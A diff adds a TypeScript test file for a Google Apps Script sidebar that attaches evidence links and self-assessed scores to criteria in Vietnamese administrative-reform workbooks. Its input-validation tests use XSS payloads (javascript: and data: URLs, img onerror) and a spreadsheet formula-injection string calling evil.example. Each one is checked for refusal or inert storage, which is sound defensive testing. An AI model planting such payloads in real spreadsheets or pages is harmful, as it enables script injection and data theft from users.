@@ -1,0 +1,473 @@
+/**
+ * Server functions of the evidence sidebar (src/gas/sidebar.ts) against the in-memory Apps
+ * Script stand-ins, on the example workbook. Every argument is treated as untrusted.
+ */
+import type { CriterionView, LinkCheck, NextResult, PollResult, Reply, WriteResult } from '../../src/core/evidence/evidence';
+import {
+  evidenceAddLink,
+  evidenceCheckLink,
+  evidenceNextMissing,
+  evidencePoll,
+  evidenceRemoveLink,
+  evidenceSetExplanation,
+  evidenceSetScore,
+  showEvidenceSidebar,
+  SIDEBAR_ENTRY_POINTS,
+} from '../../src/gas/sidebar';
+import { createExampleEnv, DEMO_LINKS } from '../../scripts/preview';
+import { exampleSettings, unitGrid } from '../../scripts/make-example';
+import { cellState, cellValue, createFakeEnv, installGlobals, type FakeEnv } from '../../dev/gas-emulator/index';
+
+const make = { unitGrid, exampleSettings };
+const VP = 'VP HĐND-UBND';
+const TT = 'TT PVHCC';
+const CA = 'Công an xã';
+// Rows of the standard layout: 4 title rows, the header on row 5, then the criteria set.
+const ROW = { '1': 6, '1.1': 7, '1.1.1': 8, '1.1.2': 9, '1.2.1': 11, '3.4': 29, '7.5': 45, bonus: 47, penalty: 48 } as const;
+const DOC = 'https://docs.google.com/document/d/1DemoHanCheKeHoach2026/edit';
+
+let env: FakeEnv;
+let restore: () => void;
+
+function fresh(options: Parameters<typeof createExampleEnv>[1] = {}): void {
+  restore?.();
+  env = createExampleEnv(make, options);
+  restore = installGlobals(env);
+}
+
+beforeEach(() => fresh());
+afterAll(() => restore?.());
+
+function ok<T>(r: Reply<T>): T {
+  if (!r.ok) throw new Error(`expected ok, got: ${r.error}`);
+  return r.data;
+}
+
+function err<T>(r: Reply<T>): string {
+  if (r.ok) throw new Error('expected an error');
+  // Vietnamese for the person, never a stack trace.
+  expect(r.error).not.toMatch(/\n\s+at |Error:|TypeError|undefined/);
+  return r.error;
+}
+
+function criterion(view: unknown): CriterionView {
+  const v = view as CriterionView;
+  expect(v.kind).toBe('criterion');
+  return v;
+}
+
+function target(sheet: string, outline: keyof typeof ROW) {
+  return { sheet, row: ROW[outline], outline };
+}
+
+function runs(sheet: string, a1: string): [string, string | null][] {
+  const rich = env.gas.SpreadsheetApp.getActive().getSheetByName(sheet)!.getRange(a1).getRichTextValue()!;
+  return rich.getRuns().map((r) => [r.getText(), r.getLinkUrl()]);
+}
+
+function select(sheet: string, a1: string): void {
+  env.ss.setActiveCell(sheet, a1);
+}
+
+test('entry points are exported functions', () => {
+  const mod = require('../../src/gas/sidebar') as Record<string, unknown>;
+  for (const name of SIDEBAR_ENTRY_POINTS) expect(typeof mod[name]).toBe('function');
+});
+
+test('showEvidenceSidebar shows the built page as a sidebar titled in Vietnamese', () => {
+  const e = createFakeEnv({ htmlFiles: { sidebar: '<p>trang</p>' } });
+  const undo = installGlobals(e);
+  try {
+    showEvidenceSidebar();
+  } finally {
+    undo();
+    restore = installGlobals(env);
+  }
+  expect(e.ui.sidebars).toHaveLength(1);
+  expect(e.ui.sidebars[0]).toMatchObject({ kind: 'sidebar', title: 'Đính kèm minh chứng', content: '<p>trang</p>' });
+});
+
+describe('evidencePoll follows the selection', () => {
+  test('the selected criterion with its links; a sensitive unit gets the sharing checked', () => {
+    const r = ok(evidencePoll(''));
+    expect(r.changed).toBe(true);
+    const v = criterion((r as Extract<PollResult, { changed: true }>).view);
+    expect(v).toMatchObject({
+      target: { sheet: CA, row: 8, outline: '1.1.1' },
+      unit: 'Công an xã',
+      sensitive: true,
+      leaf: true,
+      max: '1',
+      maxValue: 1,
+      self: '1',
+      group: 'CÔNG TÁC CHỈ ĐẠO, ĐIỀU HÀNH CCHC',
+      officeFocal: 'Huỳnh Quốc Việt - 0987015592',
+    });
+    expect(v.text).toMatch(/^Ban hành kế hoạch CCHC năm/);
+    expect(v.links).toHaveLength(1);
+    expect(v.links[0]).toMatchObject({ safe: true, kindLabel: 'Tệp trên Google Drive', fileName: 'Minh chứng 1.1.1 - Công an xã.pdf' });
+    expect(v.links[0].warning).toContain('bất kỳ ai có đường liên kết');
+    const month = new Intl.DateTimeFormat('en-GB', { timeZone: 'Asia/Ho_Chi_Minh', month: '2-digit', year: 'numeric' }).format(new Date());
+    expect(v.fileName).toBe(
+      `Công an xã - CÔNG TÁC CHỈ ĐẠO, ĐIỀU HÀNH CCHC - Ban hành kế hoạch CCHC năm đầy đủ nội dung, phân công trách nhiệm, sản phẩm - ${month}`,
+    );
+  });
+
+  test('an unchanged selection costs a few cheap calls and no read of the sheet', () => {
+    const first = ok(evidencePoll(''));
+    env.calls.reset();
+    const again = ok(evidencePoll(first.key));
+    expect(again).toEqual({ changed: false, key: first.key });
+    expect(env.calls.count('Range.getValues')).toBe(0);
+    expect(env.calls.count()).toBeLessThanOrEqual(5);
+  });
+
+  test('one read of the sheet and the rich text of one cell for a non-sensitive unit', () => {
+    select(VP, 'C9');
+    env.calls.reset();
+    const v = criterion((ok(evidencePoll('')) as Extract<PollResult, { changed: true }>).view);
+    expect(v.outline).toBe('1.1.2');
+    expect(v.unit).toBe('Văn phòng HĐND và UBND xã');
+    expect(v.links[0].fileName).toBeNull();
+    expect(env.calls.count('Range.getValues')).toBe(2); // the unit sheet and the settings sheet
+    expect(env.calls.count('Range.getRichTextValue')).toBe(1);
+    expect(env.calls.count('Range.getRichTextValues')).toBe(0);
+    expect(env.calls.count('DriveApp.getFileById')).toBe(0);
+  });
+
+  test('rows and sheets that are not criteria say what to select', () => {
+    select('Cấu hình', 'A3');
+    expect((ok(evidencePoll('')) as { view: { kind: string; message: string } }).view).toMatchObject({
+      kind: 'none',
+      message: expect.stringContaining('trang của công cụ'),
+    });
+    select(CA, 'A5');
+    expect((ok(evidencePoll('')) as { view: unknown }).view).toMatchObject({
+      kind: 'none',
+      unitSheet: true,
+      message: expect.stringContaining('từ hàng 6'),
+    });
+    select(CA, 'A60');
+    expect((ok(evidencePoll('')) as { view: unknown }).view).toMatchObject({ kind: 'none', unitSheet: true });
+    env.ss.insertSheet('Trang trống');
+    select('Trang trống', 'A1');
+    expect((ok(evidencePoll('')) as { view: unknown }).view).toMatchObject({
+      kind: 'none',
+      unitSheet: false,
+      message: expect.stringContaining('không phải biểu chấm'),
+    });
+  });
+});
+
+describe('attaching links', () => {
+  test('a link becomes a new hyperlinked line and what was in the cell is kept', () => {
+    const before = String(cellValue(env, VP, 'F8'));
+    const r = ok(evidenceAddLink(target(VP, '1.1.1'), DOC));
+    expect(r.message).toBe('Đã đính kèm minh chứng cho tiêu chí 1.1.1.');
+    expect(cellValue(env, VP, 'F8')).toBe(`${before}\n${DOC}`);
+    expect(runs(VP, 'F8')).toEqual([
+      [before, before],
+      ['\n', null],
+      [DOC, DOC],
+    ]);
+    const v = criterion(r.view);
+    expect(v.links.map((l) => l.url)).toEqual([before, DOC]);
+    expect(r.check).toMatchObject({ drive: 'ok', fileName: 'Kế hoạch CCHC năm 2026', kindLabel: 'Google Tài liệu', warning: null });
+  });
+
+  test('a cell with notes and a rich link keeps both; several links, one per line', () => {
+    const sheet = env.gas.SpreadsheetApp.getActive().getSheetByName(TT)!;
+    const rich = env.gas.SpreadsheetApp.newRichTextValue().setText('Quyết định 12/QĐ-UBND\nĐang bổ sung').setLinkUrl(0, 21, DOC).build();
+    sheet.getRange('F29').setRichTextValue(rich);
+    ok(evidenceAddLink(target(TT, '3.4'), DEMO_LINKS.web));
+    const r = ok(evidenceAddLink(target(TT, '3.4'), 'drive.google.com/file/d/1DemoHanCheKeHoach2026/view'));
+    expect(cellValue(env, TT, 'F29')).toBe(
+      `Quyết định 12/QĐ-UBND\nĐang bổ sung\n${DEMO_LINKS.web}\nhttps://drive.google.com/file/d/1DemoHanCheKeHoach2026/view`,
+    );
+    expect(runs(TT, 'F29').filter(([, url]) => url)).toEqual([
+      ['Quyết định 12/QĐ-UBND', DOC],
+      [DEMO_LINKS.web, DEMO_LINKS.web],
+      ['https://drive.google.com/file/d/1DemoHanCheKeHoach2026/view', 'https://drive.google.com/file/d/1DemoHanCheKeHoach2026/view'],
+    ]);
+    const v = criterion(r.view);
+    expect(v.links.map((l) => l.text)).toEqual([
+      'Quyết định 12/QĐ-UBND',
+      DEMO_LINKS.web,
+      'https://drive.google.com/file/d/1DemoHanCheKeHoach2026/view',
+    ]);
+    expect(v.otherText).toBe('Đang bổ sung');
+  });
+
+  test('a write is one read of the unit sheet plus the re-check, under the document lock', () => {
+    env.calls.reset();
+    ok(evidenceAddLink(target(TT, '3.4'), DEMO_LINKS.web));
+    // The unit sheet: one read by the sidebar, one by the re-check (checkSheet); the settings once.
+    expect(env.calls.count('Range.getValues')).toBe(3);
+    expect(env.calls.count('Range.getRichTextValue')).toBe(1);
+    expect(env.calls.count('Range.setRichTextValue')).toBe(1);
+    expect(env.calls.count('LockService.getDocumentLock')).toBe(1);
+    expect(env.calls.count('Lock.releaseLock')).toBe(1);
+    // No cell-by-cell reads or writes.
+    expect(env.calls.count('Range.getValue')).toBe(0);
+    expect(env.calls.count('Range.setValue')).toBe(0);
+    expect(env.calls.count('Range.getRichTextValues')).toBe(0);
+  });
+
+  test('the re-check clears the "missing evidence" note of the criterion', () => {
+    const check = ok(evidenceNextMissing({ sheet: TT, row: 0 }));
+    expect(check.found).toBe(true);
+    ok(evidenceSetScore(target(TT, '3.4'), '3')); // runs the check: notes on missing evidence
+    expect(cellState(env, TT, 'F29').note).toContain('chưa có đường dẫn minh chứng');
+    ok(evidenceAddLink(target(TT, '3.4'), DEMO_LINKS.web));
+    expect(cellState(env, TT, 'F29').note).not.toContain('chưa có đường dẫn minh chứng');
+  });
+
+  test('a duplicate link is refused', () => {
+    const existing = String(cellValue(env, VP, 'F8'));
+    expect(
+      err(
+        evidenceAddLink(
+          target(VP, '1.1.1'),
+          existing.toUpperCase().replace('/FILE/D/', '/file/d/').replace('MINHCHUNG/VIEW', 'MinhChung/view'),
+        ),
+      ),
+    ).toContain('đã được đính kèm');
+    expect(err(evidenceAddLink(target(VP, '1.1.1'), existing))).toContain('đã được đính kèm');
+  });
+
+  test.each([
+    ['javascript:alert(1)', 'http:// hoặc https://'],
+    ['javascript:window.__xss=1//https://drive.google.com', 'http:// hoặc https://'],
+    ['data:text/html,<img src=x onerror=alert(1)>', 'http:// hoặc https://'],
+    [`https://example.com/${'a'.repeat(2100)}`, 'dài quá 2.048 ký tự'],
+    ['https://a.com/<img src=x onerror=alert(1)>', 'ký tự không hợp lệ'],
+    [42, 'Hãy dán'],
+    [null, 'Hãy dán'],
+  ])('refuses the link #%# and leaves the cell as it was', (url, message) => {
+    const before = cellValue(env, VP, 'F8');
+    expect(err(evidenceAddLink(target(VP, '1.1.1'), url))).toContain(message);
+    expect(cellValue(env, VP, 'F8')).toBe(before);
+  });
+
+  test('a Drive file shared with anyone: warned for a sensitive unit only', () => {
+    const sensitive = ok(evidenceCheckLink(target(CA, '1.1.1'), DEMO_LINKS.anyoneWithLink));
+    expect(sensitive).toMatchObject({ drive: 'ok', fileName: 'Báo cáo kết quả CCHC quý III năm 2026.pdf' });
+    expect(sensitive.warning).toContain('Đơn vị nhạy cảm');
+    expect(sensitive.warning).toContain('Bị hạn chế');
+    expect(ok(evidenceCheckLink(target(CA, '1.1.1'), DEMO_LINKS.publicOnWeb)).warning).toContain('công khai trên Internet');
+    expect(ok(evidenceCheckLink(target(CA, '1.1.1'), DEMO_LINKS.restrictedDoc)).warning).toBeNull();
+    expect(ok(evidenceCheckLink(target(VP, '1.1.1'), DEMO_LINKS.anyoneWithLink)).warning).toBeNull();
+    const added = ok(evidenceAddLink(target(CA, '1.2.1'), DEMO_LINKS.anyoneWithLink));
+    expect(added.check?.warning).toContain('Đơn vị nhạy cảm');
+    expect(criterion(added.view).links.map((l) => Boolean(l.warning))).toEqual([true, true]);
+  });
+
+  test('without Drive permission it says it could not check, and still attaches', () => {
+    env.setDriveAuthorized(false);
+    const c: LinkCheck = ok(evidenceCheckLink(target(CA, '1.1.1'), DEMO_LINKS.anyoneWithLink));
+    expect(c).toMatchObject({ drive: 'no-permission', fileName: null, warning: null });
+    expect(c.note).toContain('Không kiểm tra được tệp trên Google Drive');
+    expect(c.note).toContain('chia sẻ hạn chế');
+    const r = ok(evidenceAddLink(target(CA, '1.2.1'), DEMO_LINKS.anyoneWithLink));
+    expect(String(cellValue(env, CA, 'F11'))).toContain(DEMO_LINKS.anyoneWithLink);
+    expect(criterion(r.view).links[1].note).toContain('Không kiểm tra được');
+    expect(ok(evidenceCheckLink(target(CA, '1.1.1'), DEMO_LINKS.unknownDrive)).drive).toBe('no-permission');
+    env.setDriveAuthorized(true);
+    expect(ok(evidenceCheckLink(target(CA, '1.1.1'), DEMO_LINKS.unknownDrive))).toMatchObject({
+      drive: 'not-found',
+      note: expect.stringContaining('Không đọc được tệp'),
+    });
+    expect(ok(evidenceCheckLink(target(CA, '1.1.1'), DEMO_LINKS.web))).toMatchObject({
+      drive: 'not-drive',
+      note: expect.stringContaining('không thuộc Google Drive'),
+    });
+  });
+});
+
+describe('removing links', () => {
+  test('removes one link and its line; the other link stays hyperlinked', () => {
+    const first = String(cellValue(env, VP, 'F8'));
+    ok(evidenceAddLink(target(VP, '1.1.1'), DOC));
+    const r = ok(evidenceRemoveLink(target(VP, '1.1.1'), first));
+    expect(r.message).toBe('Đã gỡ minh chứng.');
+    expect(cellValue(env, VP, 'F8')).toBe(DOC);
+    expect(runs(VP, 'F8')).toEqual([[DOC, DOC]]);
+    ok(evidenceRemoveLink(target(VP, '1.1.1'), DOC));
+    expect(cellValue(env, VP, 'F8')).toBe('');
+    expect(criterion(ok(evidenceRemoveLink(target(VP, '1.1.2'), String(cellValue(env, VP, 'F9')))).view).links).toEqual([]);
+  });
+
+  test('a link that is not there, or not a string', () => {
+    expect(err(evidenceRemoveLink(target(VP, '1.1.1'), DOC))).toContain('Không còn thấy đường dẫn này');
+    expect(err(evidenceRemoveLink(target(VP, '1.1.1'), { url: DOC }))).toContain('thiếu đường dẫn');
+  });
+
+  test('a javascript: link put in the cell by hand is listed as unsafe and can be removed', () => {
+    const sheet = env.gas.SpreadsheetApp.getActive().getSheetByName(VP)!;
+    sheet
+      .getRange('F8')
+      .setRichTextValue(env.gas.SpreadsheetApp.newRichTextValue().setText('bấm vào đây').setLinkUrl('javascript:window.__xss=1').build());
+    select(VP, 'B8');
+    const v = criterion((ok(evidencePoll('')) as Extract<PollResult, { changed: true }>).view);
+    expect(v.links).toEqual([expect.objectContaining({ url: 'javascript:window.__xss=1', safe: false, text: 'bấm vào đây' })]);
+    ok(evidenceAddLink(target(VP, '1.1.1'), DOC));
+    // Re-writing the cell never writes a non-http link back.
+    expect(runs(VP, 'F8')).toEqual([
+      ['bấm vào đây\n', null],
+      [DOC, DOC],
+    ]);
+  });
+});
+
+describe('score and explanation', () => {
+  test('"1,5" is stored as the number 1.5; "Chưa tính điểm" as text; empty clears', () => {
+    const r = ok(evidenceSetScore(target(VP, '1.1.2'), '1,5'));
+    expect(cellValue(env, VP, 'D9')).toBe(1.5);
+    expect(r.message).toBe('Đã lưu điểm tự chấm: 1,5 điểm.');
+    expect(criterion(r.view).self).toBe('1,5');
+    // The re-check wrote the group's new subtotal (1 + 1,5).
+    expect(cellValue(env, VP, 'D7')).toBe(2.5);
+    ok(evidenceSetScore(target(VP, '1.1.2'), 'chưa tính điểm'));
+    expect(cellValue(env, VP, 'D9')).toBe('Chưa tính điểm');
+    ok(evidenceSetScore(target(VP, '1.1.2'), ''));
+    expect(cellValue(env, VP, 'D9')).toBe('');
+  });
+
+  test('the same 0..max check as the sheet', () => {
+    expect(err(evidenceSetScore(target(VP, '1.1.2'), '2,5'))).toContain('vượt điểm tối đa 2');
+    expect(err(evidenceSetScore(target(VP, '1.1.2'), '-1'))).toContain('không được âm');
+    expect(err(evidenceSetScore(target(VP, '1.1.2'), 'đạt'))).toContain('"đạt" không phải là điểm');
+    expect(err(evidenceSetScore(target(VP, '1.1.2'), '=1+1'))).toContain('không phải là điểm');
+    expect(cellValue(env, VP, 'D9')).toBe(2);
+  });
+
+  test('explanations are stored as text, limited to 2,000 characters; groups may have one', () => {
+    ok(evidenceSetExplanation(target(VP, '1.1.2'), '=IMPORTXML("https://evil.example","//a")'));
+    expect(cellState(env, VP, 'E9')).toMatchObject({ value: '=IMPORTXML("https://evil.example","//a")', formula: '' });
+    ok(evidenceSetExplanation(target(VP, '1.1.2'), '15/6'));
+    expect(cellValue(env, VP, 'E9')).toBe('15/6');
+    const r = ok(evidenceSetExplanation(target(VP, '1'), 'Hoàn thành\r\ncả nhóm'));
+    expect(cellValue(env, VP, 'E6')).toBe('Hoàn thành\ncả nhóm');
+    expect(criterion(r.view).explanation).toBe('Hoàn thành\ncả nhóm');
+    expect(err(evidenceSetExplanation(target(VP, '1.1.2'), 'a'.repeat(2001)))).toContain('tối đa 2.000 ký tự');
+    expect(err(evidenceSetExplanation(target(VP, '1.1.2'), 12))).toContain('Giải trình không hợp lệ');
+  });
+});
+
+describe('untrusted targets', () => {
+  test.each([
+    [null, 'thiếu tiêu chí'],
+    ['VP HĐND-UBND', 'thiếu tiêu chí'],
+    [[VP, 8, '1.1.1'], 'thiếu tiêu chí'],
+    [{ sheet: '', row: 8, outline: '1.1.1' }, 'thiếu tên trang tính'],
+    [{ sheet: 'x'.repeat(101), row: 8, outline: '1.1.1' }, 'thiếu tên trang tính'],
+    [{ sheet: VP, row: '8', outline: '1.1.1' }, 'số hàng không đúng'],
+    [{ sheet: VP, row: 8.5, outline: '1.1.1' }, 'số hàng không đúng'],
+    [{ sheet: VP, row: -1, outline: '1.1.1' }, 'số hàng không đúng'],
+    [{ sheet: VP, row: 1e300, outline: '1.1.1' }, 'số hàng không đúng'],
+    [{ sheet: VP, row: NaN, outline: '1.1.1' }, 'số hàng không đúng'],
+    [{ sheet: VP, row: 8, outline: 5 }, 'số thứ tự tiêu chí không đúng'],
+    [{ sheet: 'Không có trang này', row: 8, outline: '1.1.1' }, 'Không tìm thấy trang tính'],
+    [{ sheet: 'Cấu hình', row: 17, outline: '' }, 'trang của công cụ chấm điểm'],
+    [{ sheet: VP, row: 5, outline: 'STT' }, 'không phải là một tiêu chí'],
+    [{ sheet: VP, row: 3000, outline: '' }, 'không phải là một tiêu chí'],
+    [{ sheet: VP, row: 9, outline: '1.1.1' }, 'các hàng đã dời chỗ'],
+    [{ sheet: VP, row: 7, outline: '1.1' }, 'là mục nhóm'],
+  ])('%j is refused with a Vietnamese message', (t, message) => {
+    const before = cellValue(env, VP, 'F8');
+    expect(err(evidenceAddLink(t, DOC))).toContain(message);
+    expect(err(evidenceSetScore(t, '1'))).toContain(message);
+    expect(err(evidenceCheckLink(t, DOC))).toContain(message);
+    expect(cellValue(env, VP, 'F8')).toBe(before);
+  });
+
+  test('a sheet the engine does not recognise', () => {
+    env.ss.insertSheet('Ghi chép');
+    env.ss.seedValues('Ghi chép', [
+      ['STT', 'Nội dung'],
+      [1, 'abc'],
+    ]);
+    expect(err(evidenceAddLink({ sheet: 'Ghi chép', row: 2, outline: '1' }, DOC))).toContain('không phải biểu chấm điểm');
+  });
+
+  test('another execution holding the lock: a Vietnamese message and nothing written', () => {
+    const before = cellValue(env, VP, 'F8');
+    env.locks.holdByOther('document');
+    expect(err(evidenceAddLink(target(VP, '1.1.1'), DOC))).toContain('Có người khác đang chạy');
+    expect(cellValue(env, VP, 'F8')).toBe(before);
+  });
+
+  test('a protected evidence column: a Vietnamese message', () => {
+    const e = createFakeEnv({
+      sheets: {
+        [VP]: unitGrid((require('../../scripts/example-data') as typeof import('../../scripts/example-data')).UNITS[0], exampleSettings()),
+      },
+      editors: ['canbo@gialai.gov.vn'],
+    });
+    restore();
+    restore = installGlobals(e);
+    const p = e.gas.SpreadsheetApp.getActive().getSheetByName(VP)!.getRange('F1:F60').protect();
+    p.removeEditor('canbo@gialai.gov.vn');
+    e.setActiveUser('canbo@gialai.gov.vn');
+    expect(err(evidenceAddLink(target(VP, '1.1.1'), DOC))).toContain('đang được bảo vệ');
+  });
+});
+
+describe('next criterion without evidence', () => {
+  test('goes to the next leaf with a score above 0 and no link, wrapping around, and selects it', () => {
+    // TT PVHCC: 3.4 (self 3) and 7.5 (self 3) have no evidence; 6.1, 6.2, 7.6 have no score.
+    let r: NextResult = ok(evidenceNextMissing({ sheet: TT, row: ROW['1.1.1'] }));
+    expect(r).toMatchObject({
+      found: true,
+      message: 'Tiêu chí 3.4 (hàng 29) chưa có minh chứng. Còn 2 tiêu chí có điểm nhưng chưa có minh chứng.',
+    });
+    expect(criterion(r.view).outline).toBe('3.4');
+    expect(env.ss.getActiveSheet().getName()).toBe(TT);
+    expect(env.ss.getActiveRange().getA1Notation()).toBe('F29');
+    r = ok(evidenceNextMissing({ sheet: TT, row: 29 }));
+    expect(criterion(r.view).outline).toBe('7.5');
+    expect(env.ss.getActiveRange().getA1Notation()).toBe('F45');
+    r = ok(evidenceNextMissing({ sheet: TT, row: 45 }));
+    expect(criterion(r.view).outline).toBe('3.4');
+    // The selection key matches the next poll: nothing to reload.
+    expect(ok(evidencePoll(criterion(r.view).key)).changed).toBe(false);
+  });
+
+  test('a cell with text but no link is missing; a rich link without a URL in the text is not', () => {
+    const sheet = env.gas.SpreadsheetApp.getActive().getSheetByName(TT)!;
+    sheet.getRange('F29').setValue('Đang bổ sung');
+    sheet.getRange('F45').setRichTextValue(env.gas.SpreadsheetApp.newRichTextValue().setText('Quyết định 12').setLinkUrl(DOC).build());
+    env.calls.reset();
+    const r = ok(evidenceNextMissing({ sheet: TT, row: 0 }));
+    expect(r.message).toBe('Tiêu chí 3.4 (hàng 29) chưa có minh chứng. Đây là tiêu chí duy nhất còn thiếu.');
+    expect(env.calls.count('Range.getRichTextValues')).toBe(1);
+    expect(env.calls.count('Range.getRichTextValue')).toBe(0);
+  });
+
+  test('nothing missing, nothing scored, not a unit sheet', () => {
+    expect(ok(evidenceNextMissing({ sheet: VP, row: 1 }))).toEqual({
+      found: false,
+      message: 'Mọi tiêu chí có điểm tự chấm đều đã có minh chứng.',
+    });
+    expect(ok(evidenceNextMissing({ sheet: 'Trạm Y tế', row: 1 })).found).toBe(true);
+    expect(err(evidenceNextMissing({ sheet: 'Cấu hình', row: 1 }))).toContain('trang của công cụ');
+    expect(err(evidenceNextMissing('Cấu hình'))).toContain('không hợp lệ');
+    const empty = unitGrid(
+      { ...(require('../../scripts/example-data') as typeof import('../../scripts/example-data')).UNITS[4], rows: {} },
+      exampleSettings(),
+    );
+    env.ss.insertSheet('Đơn vị mới');
+    env.ss.seedValues('Đơn vị mới', empty);
+    expect(ok(evidenceNextMissing({ sheet: 'Đơn vị mới', row: 1 }))).toEqual({
+      found: false,
+      message: 'Chưa có tiêu chí nào có điểm tự chấm lớn hơn 0.',
+    });
+  });
+});
+
+test('write results are plain JSON (what google.script.run can carry)', () => {
+  const r = evidenceAddLink(target(VP, '1.1.1'), DOC);
+  expect(JSON.parse(JSON.stringify(r))).toEqual(r);
+  const w = ok(r) as WriteResult;
+  expect(w.view.kind).toBe('criterion');
+});
